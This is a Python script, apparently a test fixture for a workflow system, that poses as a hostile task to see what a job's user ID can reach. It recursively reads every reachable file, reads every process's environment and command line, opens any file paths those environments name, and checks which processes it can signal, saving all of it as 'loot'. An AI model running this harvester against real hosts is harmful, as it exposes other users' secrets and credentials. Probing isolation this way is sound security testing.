"""A hostile EWMS task (stdlib only): takes from this machine whatever its uid can read.

Its message names directories to search (another workflow's job directory, learned as a
user can learn it). It walks them and the job root, reads every file it reaches, every
/proc/*/environ and /proc/*/cmdline, every file named in an environment it could read, and
tries to signal every process. Its output (JSON) is the loot and the refusals.
"""

import json
import os
import sys

LIMIT = 65536

loot: dict = {"files": {}, "refused": {}, "environ": {}, "cmdline": {}, "signalable": [], "uid": os.getuid()}


def grab(path: str) -> None:
    if path in loot["files"] or path in loot["refused"]:
        return
    try:
        with open(path, "rb") as f:
            loot["files"][path] = f.read(LIMIT).decode(errors="replace")
    except OSError as e:
        loot["refused"][path] = type(e).__name__


def search(top: str) -> None:
    try:
        names = os.listdir(top)
    except OSError as e:
        loot["refused"][top + "/"] = type(e).__name__
        return
    for name in names:
        path = os.path.join(top, name)
        if os.path.isdir(path) and not os.path.islink(path):
            search(path)
        else:
            grab(path)


def main() -> int:
    with open(os.environ["EWMS_TASK_INFILE"]) as f:
        order = json.load(f)
    for top in [order["jobs_root"], *order["targets"]]:
        search(top)
    for guess in order["guesses"]:
        if os.path.isdir(guess):
            search(guess)
        else:
            grab(guess)
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    loot[what][pid] = f.read(LIMIT).decode(errors="replace")
            except OSError:
                pass
        try:
            os.kill(int(pid), 0)
            loot["signalable"].append(int(pid))
        except OSError:
            pass
    for environ in list(loot["environ"].values()):  # follow every path an environment names
        for entry in environ.split("\0"):
            value = entry.partition("=")[2]
            if value.startswith("/"):
                grab(value)
    with open(os.environ["EWMS_TASK_OUTFILE"], "w") as f:
        json.dump(loot, f)
    return 0


if __name__ == "__main__":
    sys.exit(main())
